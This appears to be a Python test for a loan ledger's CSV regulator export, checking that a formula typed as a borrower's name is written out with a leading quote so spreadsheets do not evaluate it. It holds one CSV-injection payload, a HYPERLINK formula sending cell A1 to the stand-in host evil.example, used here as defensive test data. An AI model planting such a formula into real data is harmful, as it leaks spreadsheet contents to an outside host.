"""A formula typed as a borrower's name reaches the regulator export as quoted text, never as a
formula a spreadsheet evaluates; the library's rows keep the name exactly (issue 24)."""

from __future__ import annotations

import csv
from pathlib import Path

from typer.testing import CliRunner

from loanledger import LoanLedger
from loanledger.entrypoints.cli import app
from tests.journal import disburse, pre_loan

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_a_formula_in_a_borrowers_name_is_quoted_in_the_csv_export(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path}/ledger.db"
    ledger = LoanLedger.open(db)
    commands = pre_loan("L-0001")
    commands[0] = {**commands[0], "borrower": {"id": "B-1", "name": FORMULA}}
    for command in [*commands, disburse("L-0001", "2024-01-15", "12000.00")]:
        ledger.execute(command)
    rows = ledger.export_loan_level("2024-01-31", unmasked=True)
    ledger.close()
    assert rows[0]["borrower_name"] == FORMULA
    output = tmp_path / "loan_level.csv"

    result = CliRunner().invoke(
        app,
        ["export", "loan-level", "--as-of", "2024-01-31", "--unmasked", "--output", str(output),
         "--db", db],
    )  # fmt: skip

    assert result.exit_code == 0, result.stderr
    with output.open(encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["borrower_name"] == "'" + FORMULA
    assert row["principal_outstanding"] == "12000.00"
